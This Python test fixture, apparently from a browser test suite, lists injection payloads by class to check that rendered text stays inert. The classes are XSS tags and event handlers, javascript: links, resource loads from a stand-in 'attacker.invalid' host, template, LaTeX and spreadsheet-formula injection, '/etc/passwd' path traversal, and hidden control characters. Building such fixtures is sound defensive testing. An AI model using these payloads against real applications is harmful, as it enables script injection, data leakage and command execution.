"""Texts that try to run, load, deceive or break something, by class; each would be harmless as text."""

from __future__ import annotations

from tests.browser.offline import RAN

_RUN = f"window.{RAN}=(window.{RAN}||0)+1"
_AWAY = "https://attacker.invalid"

PAYLOADS: dict[str, tuple[str, ...]] = {
    "script": (
        f"<script>{_RUN}</script>",
        f"</script><script>{_RUN}</script>",
        f"</title></style></textarea></noscript><script>{_RUN}</script>",
        f"<ScRiPt\t>{_RUN}</sCrIpT >",
        f'<script src="{_AWAY}/x.js"></script>',
        f'"><script>{_RUN}</script>',
        f"'>-->]]><script>{_RUN}</script>",
        f"&lt;script&gt;{_RUN}&lt;/script&gt;<script>{_RUN}</script>",
    ),
    "handler": (
        f'<img src=x onerror="{_RUN}">',
        f'"><img src=x onerror={_RUN}>',
        f'" onmouseover="{_RUN}" x="',
        f"' onfocus='{_RUN}' autofocus tabindex=1 x='",
        f'<details open ontoggle="{_RUN}">x</details>',
        f'<input autofocus onfocus="{_RUN}">',
        f'<body onload="{_RUN}">',
        f'<video><source onerror="{_RUN}"></video>',
        f'<p style="animation:x" onanimationstart="{_RUN}">x</p>',
    ),
    "link": (
        f'<a href="javascript:{_RUN}">x</a>',
        f"javascript:{_RUN}",
        f'<a href="jav&#x09;ascript:{_RUN}">x</a>',
        f"java\tscript:{_RUN}",
        f"data:text/html,<script>{_RUN}</script>",
        f'<iframe src="{_AWAY}"></iframe>',
        f"<iframe srcdoc=\"<script>parent.{_RUN}</script>\"></iframe>",
        f'<meta http-equiv="refresh" content="0;url={_AWAY}">',
        f'<base href="{_AWAY}/">',
        f'<form action="{_AWAY}"><button>x</button></form>',
        f'<object data="{_AWAY}/x"></object>',
    ),
    "style": (
        f"<style>@import '{_AWAY}/x.css';</style>",
        f"</style><style>body{{background:url({_AWAY}/x)}}</style>",
        f'<p style="background:url({_AWAY}/y)">x</p>',
        f'<link rel="stylesheet" href="{_AWAY}/x.css">',
        "<style>main{display:none}</style>",
        f'";background-image:url({_AWAY}/z);"',
    ),
    "svg": (
        f'<svg onload="{_RUN}"></svg>',
        f"<svg><script>{_RUN}</script></svg>",
        f'<svg><image href="{_AWAY}/x.png"/></svg>',
        f'<svg><use href="{_AWAY}/x.svg#a"/></svg>',
        f'<svg><a xlink:href="javascript:{_RUN}"><text y="9">x</text></a></svg>',
        f'</text></svg><img src=x onerror="{_RUN}">',
        f'<svg><animate onbegin="{_RUN}" attributeName="x" dur="1s"/></svg>',
        f"<math><mtext><img src=x onerror=\"{_RUN}\"></mtext></math>",
    ),
    "template": (
        "{{ 7*7 }}", "{% include '/etc/passwd' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
        "{{constructor.constructor('x')()}}",
    ),
    "formula": (
        '=HYPERLINK("https://attacker.invalid","x")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1",
    ),
    "markdown": (
        f"[x](javascript:{_RUN})", f"![x]({_AWAY}/x.png)", "**b** _i_ `c`", "# h\n> q\n- l", "```\nx\n```",
        f"<{_AWAY}>", f"[x]: {_AWAY}",
    ),
    "latex": (
        r"$$\href{javascript:alert(1)}{x}$$", r"\input{/etc/passwd}", r"\write18{id}", "$x$ \\(y\\)", r"\begin{x}",
    ),
    "format": (
        "{0.__class__}", "{x}", "%s %n %(a)s", "{lang!r:>99}", "%00 %0a", "{", "}{", "\\N{DIGIT ONE} \\x3cb\\x3e",
    ),
    "path": ("../../etc/passwd", "C:\\x", "\\\\srv\\s", "/abs", "a?b#c", "con", "x.html#\"><b>"),
}  # fmt: skip
#: Characters nobody can see: refused where text is read.
CONTROL = ("a\x00b", "a\x1b[31mb", "a\x08b", "a\u202eb", "a\u200bb", "a\ufeffb", "a\u2028b", "a\x85b", "a\ufffdb")
ALL = tuple(text for texts in PAYLOADS.values() for text in texts)
